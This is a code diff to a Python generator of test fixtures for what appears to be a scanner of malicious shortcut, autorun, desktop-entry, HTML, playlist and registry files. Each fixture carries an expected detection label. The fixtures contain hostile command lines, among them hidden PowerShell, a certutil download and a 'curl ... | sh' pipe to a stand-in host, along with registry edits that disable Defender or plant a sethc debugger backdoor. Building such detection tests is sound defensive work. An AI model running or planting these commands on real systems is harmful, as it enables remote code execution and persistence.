@@ -16,17 +16,17 @@ def cases() -> list[Case]:
 def _commands() -> list[Case]:
     lines = [
         shortcut(SYSTEM + "cmd.exe", "/c start explorer Pictures & start /b Pictures\\v.exe"),
-        shortcut(SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -c \"& {gc .\\~.tmp | iex}\""),
+        shortcut(SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", '-nop -w hidden -c "& {gc .\\~.tmp | iex}"'),
         shortcut(SYSTEM + "mshta.exe", "https://files.example.net/a.hta"),
         shortcut(SYSTEM + "rundll32.exe", "usb.dat,Start"),
         shortcut(SYSTEM + "wscript.exe", "//e:vbscript data.db"),
         shortcut("", " " * 260 + "/c ver", environment="%ComSpec%"),
-        shortcut("", "/q /c \"ping -n 1 files.example.net\"", environment="%windir%\\system32\\cmd.exe"),
+        shortcut("", '/q /c "ping -n 1 files.example.net"', environment="%windir%\\system32\\cmd.exe"),
         shortcut("C:\\Windows\\explorer.exe", "\\\\files.example.net\\share\\x.exe"),
         shortcut(SYSTEM + "conhost.exe", "--headless cmd /c tool.bat"),
         shortcut(SYSTEM + "regsvr32.exe", "/s /i:http://files.example.net/a.sct scrobj.dll", icon="C:\\Windows\\System32\\shell32.dll"),
         shortcut(SYSTEM + "msiexec.exe", "/q /i https://files.example.net/p.msi"),
-        shortcut(SYSTEM + "forfiles.exe", "/p c:\\windows /m notepad.exe /c \"cmd /c ver\""),
+        shortcut(SYSTEM + "forfiles.exe", '/p c:\\windows /m notepad.exe /c "cmd /c ver"'),
         shortcut("C:\\Users\\Public\\reader.exe", "\t" * 400 + "--load doc"),
         shortcut(SYSTEM + "certutil.exe", "-urlcache -f http://files.example.net/x x.exe", name="Type: Microsoft Word Document"),
         shortcut(SYSTEM + "schtasks.exe", "/create /tn a /tr b.exe -w hidden"),
@@ -39,7 +39,9 @@ def _by_list(program: str, arguments: str) -> bytes:
     """A shortcut whose target stands only in its item list."""
     drive = b"\x2fC:\\" + bytes(19)
     parts = [b"\x1f\x50" + bytes.fromhex("e04fd020ea3a6910a2d808002b30309d"), drive]
-    parts += [kind + b"\0" + bytes(10) + name.encode() + b"\0" for kind, name in ((b"\x31", "Windows"), (b"\x31", "System32"), (b"\x32", program))]
+    parts += [
+        kind + b"\0" + bytes(10) + name.encode() + b"\0" for kind, name in ((b"\x31", "Windows"), (b"\x31", "System32"), (b"\x32", program))
+    ]
     items = b"".join((len(part) + 2).to_bytes(2, "little") + part for part in parts) + b"\0\0"
     plain = bytearray(shortcut("", arguments))
     plain[20] |= 1
@@ -65,6 +67,11 @@ def _remote() -> list[Case]:
         ("i.webloc", property_list("file:///Applications/Utilities/Terminal.app").encode(), MEDIUM),
         ("j.inetloc", property_list("FiLe:////System/Applications/Calculator.app").encode(), MEDIUM),
         ("k.fileloc", property_list(f"smb://{HOST}/share").encode(), HIGH),
+        ("m.html", f"<html><img src='file://{HOST}/s/a.png'></html>".encode(), MEDIUM),
+        ("n.htm", f'<html><body background="\\\\{HOST}\\s\\a.png"></html>'.encode(), MEDIUM),
+        ("o.html", f'<html><meta http-equiv="refresh" content="0;url=file://{HOST}/s/a.hta"></html>'.encode(), MEDIUM),
+        ("p.m3u", f"#EXTM3U\n\\\\{HOST}\\s\\a.mp3\n".encode(), MEDIUM),
+        ("q.wpl", f'<?wpl version="1.0"?><smil><media src="\\\\{HOST}\\s\\a.mp3"/></smil>'.encode(), MEDIUM),
         ("l.webloc", b"bplist00\xd1\1\2SURL_\x10\x25file:///Applications/Calculator.app\x08", MEDIUM),
     ]
     return [single("link to a program or foreign machine", name, body, "shortcut.remote", least=least) for name, body, least in files]
@@ -72,7 +79,11 @@ def _remote() -> list[Case]:
 
 def _stand_ins() -> list[Case]:
     lnk = shortcut(SYSTEM + "cmd.exe", "/c start x", icon=SYSTEM + "shell32.dll")
-    pairs = [{"Photos.lnk": lnk, "Photos/a.txt": b"1"}, {"Work - Shortcut.lnk": lnk, "Work/a.txt": b"1"}, {"Data.LNK": lnk, "\u00a0/Data/a.txt": b"1"}]
+    pairs = [
+        {"Photos.lnk": lnk, "Photos/a.txt": b"1"},
+        {"Work - Shortcut.lnk": lnk, "Work/a.txt": b"1"},
+        {"Data.LNK": lnk, "\u00a0/Data/a.txt": b"1"},
+    ]
     return [Case(kind="shortcut in a folder's place", files=files, expected=("shortcut.folder-disguise",)) for files in pairs]
 
 
@@ -96,8 +107,16 @@ def _autorun() -> list[Case]:
     pair = {"AUTORUN.INF": text.encode("utf-16"), "viewer.exe": pe()}
     return [
         Case(kind="autorun.inf", files=pair, expected=("autorun.inf",), least=Severity.CRITICAL, at_root=True),
-        Case(kind="desktop start file", files={".autorun": b"#!/bin/sh\nid\n"}, expected=("autorun.desktop-entry",), least=HIGH, at_root=True),
-        Case(kind="desktop start file", files={"autorun.sh": b"#!/bin/sh\n./run\n"}, expected=("autorun.desktop-entry",), least=HIGH, at_root=True),
+        Case(
+            kind="desktop start file", files={".autorun": b"#!/bin/sh\nid\n"}, expected=("autorun.desktop-entry",), least=HIGH, at_root=True
+        ),
+        Case(
+            kind="desktop start file",
+            files={"autorun.sh": b"#!/bin/sh\n./run\n"},
+            expected=("autorun.desktop-entry",),
+            least=HIGH,
+            at_root=True,
+        ),
     ]
 
 
@@ -106,7 +125,7 @@ def _entries() -> list[Case]:
     workflow = b'<?xml version="1.0"?><plist><dict><key>COMMAND_STRING</key><string>open .</string></dict></plist>'
     files = [
         ("Trip.pdf.desktop", entry("Trip.pdf", "application-pdf", "sh -c 'xdg-open t.pdf; ./.x'").encode(), HIGH),
-        ("Photos.desktop", entry("Photos", "folder", "bash -c \"curl -s http://files.example.net | sh\"").encode(), HIGH),
+        ("Photos.desktop", entry("Photos", "folder", 'bash -c "curl -s http://files.example.net | sh"').encode(), HIGH),
         ("Notes.desktop", entry("Notes", "gedit", "./notes.bin").encode(), MEDIUM),
         ("Map.desktop", b"#!/usr/bin/env xdg-open\n" + entry("Map", "image-x", "python3 -c 'print(1)'").encode(), HIGH),
         ("Install.command", b"#!/bin/zsh\nopen x.app\n", MEDIUM),
@@ -119,11 +138,12 @@ def _entries() -> list[Case]:
 def _registry() -> list[Case]:
     head = "Windows Registry Editor Version 5.00\r\n\r\n"
     bodies = [
-        head + "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\r\n\"x\"=\"E:\\\\a.exe\"\r\n",
-        head + "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe]\r\n\"Debugger\"=\"c:\\\\windows\\\\cmd.exe\"\r\n",
-        head + "[HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command]\r\n@=\"a.exe\"\r\n",
-        head + "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n\"DisableAntiSpyware\"=dword:00000001\r\n",
-        "REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Word\\Security]\r\n\"VBAWarnings\"=dword:1\r\n",
+        head + '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\r\n"x"="E:\\\\a.exe"\r\n',
+        head
+        + '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe]\r\n"Debugger"="c:\\\\windows\\\\cmd.exe"\r\n',
+        head + '[HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command]\r\n@="a.exe"\r\n',
+        head + '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n"DisableAntiSpyware"=dword:00000001\r\n',
+        'REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Word\\Security]\r\n"VBAWarnings"=dword:1\r\n',
     ]
     return [
         single("registry file", f"settings{n}.reg", body.encode("utf-16" if n % 2 else "ascii"), "autorun.registry", least=HIGH)
